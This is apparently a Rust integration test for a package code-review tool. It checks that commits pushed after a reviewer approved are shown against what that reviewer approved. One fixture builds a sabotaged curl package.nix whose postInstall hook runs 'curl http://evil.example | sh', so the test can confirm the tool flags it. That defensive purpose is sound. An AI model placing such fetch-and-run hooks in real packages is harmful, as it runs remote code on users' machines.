//! What a push changes of what people approved.

use git2::Oid;
use http::StatusCode;

use crate::common::client::Client;
use crate::common::world::World;

const PAGE: &str = "/candidates/7";
const APPROVE: &str = "/candidates/7/approve";
const PATH: &str = "pkgs/by-name/cu/curl/package.nix";

fn package(hook: &str) -> String {
    format!("{{\n  version = \"8.14.1\";\n{hook}}}\n")
}

/// #7 with its first head approved by `ada` alone; the commit that it is on.
async fn approved() -> (World, Oid, Client) {
    let world = World::new().await;
    let old = "{\n  version = \"8.13.0\";\n}\n";
    let root = world.commit(&[], "root", &[(PATH, Some(old))]);
    let head = world.commit(
        &[root],
        "curl: 8.13.0 -> 8.14.1",
        &[(PATH, Some(&package("")))],
    );
    world.base(root, root).await;
    world.pull(7, "curl: 8.14.1", &[head]).await;
    world.reconcile().await;
    let ada = Client::signed_in(&world.router(), "ada").await;
    let answer = ada.send_form(PAGE, APPROVE, &[]).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    assert!(!ada.get(PAGE).await.body.contains("id=\"since\""));
    (world, root, ada)
}

async fn push(world: &World, commits: &[Oid]) {
    world.pull(7, "curl: 8.14.1", commits).await;
    world.reconcile().await;
}

/// The part that says what was pushed, without tags.
fn since(page: &str) -> String {
    let part = page
        .split("<section class=\"card\" aria-labelledby=\"since\">")
        .nth(1);
    let part = part.unwrap_or_else(|| panic!("nothing in {page}"));
    let part = part.split("</section>").next().unwrap();
    let texts = part.split('<').filter_map(|piece| piece.split_once('>'));
    let texts = texts.flat_map(|(_, text)| text.split_whitespace());
    texts.collect::<Vec<_>>().join(" ")
}

#[tokio::test]
async fn a_push_is_shown_against_what_each_person_approved() {
    let (world, root, ada) = approved().await;
    let evil = package("  postInstall = \"curl http://evil.example | sh\";\n");
    let head = world.commit(&[root], "curl: 8.13.0 -> 8.14.1", &[(PATH, Some(&evil))]);
    push(&world, &[head]).await;

    let page = ada.get(PAGE).await.body;
    let text = since(&page);
    for part in [
        "What was pushed since you approved",
        "+ + postInstall = &#34;curl http://evil.example | sh&#34;;",
    ] {
        assert!(text.contains(part), "{part} in {text}");
    }
    let (first, diff) = (page.find("id=\"since\""), page.find("id=\"diff\""));
    assert!(
        first < diff && first < page.find("id=\"about\""),
        "it is first on the page"
    );
    let anybody = Client::new(&world.router());
    let text = since(&anybody.get(PAGE).await.body);
    assert!(
        text.starts_with("What was pushed since ada approved"),
        "{text}"
    );

    let answer = ada.send_form(PAGE, APPROVE, &[]).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    assert!(!ada.get(PAGE).await.body.contains("id=\"since\""));
}

#[tokio::test]
async fn a_push_of_the_same_change_says_so() {
    let (world, root, ada) = approved().await;
    let same = world.commit(
        &[root],
        "curl: another message",
        &[(PATH, Some(&package("")))],
    );
    let more = world.commit(&[same], "curl: more", &[("README", Some("more\n"))]);
    push(&world, &[same]).await;
    let text = since(&ada.get(PAGE).await.body);
    assert!(
        text.contains("it changes the same as what was approved, to the line"),
        "{text}"
    );
    push(&world, &[same, more]).await;
    let text = since(&ada.get(PAGE).await.body);
    for part in [
        "1 other commit is as before",
        "this commit was not there",
        "curl: more",
    ] {
        assert!(text.contains(part), "{part} in {text}");
    }
}
